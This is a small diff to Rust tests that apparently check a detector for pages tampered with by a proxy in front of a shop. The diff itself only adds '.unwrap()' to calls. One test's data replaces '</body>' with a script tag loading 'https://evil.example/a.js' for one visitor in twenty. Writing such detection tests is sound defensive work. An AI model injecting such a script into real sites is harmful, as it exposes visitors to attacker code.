@@ -31,7 +31,7 @@ fn look(shop: &Dozo, through: &Proxy, rounds: u32) -> Vec<Value> {
 #[test]
 fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
     let shop = Dozo::start();
-    let proxy = Proxy::start(&shop);
+    let proxy = Proxy::start(&shop).unwrap();
     let found = look(&shop, &proxy, 12);
     assert!(found.is_empty(), "an ordinary shop is quiet: {found:#?}");
     for (what, why, change) in [
@@ -74,7 +74,7 @@ fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
 #[test]
 fn one_visitor_in_twenty_is_found_within_sixty_looks_at_a_page() {
     let shop = Dozo::start();
-    let proxy = Proxy::start(&shop);
+    let proxy = Proxy::start(&shop).unwrap();
     proxy.set(Some(Change::OneInTwenty(
         "</body>",
         "<script src=\"https://evil.example/a.js\"></script></body>",
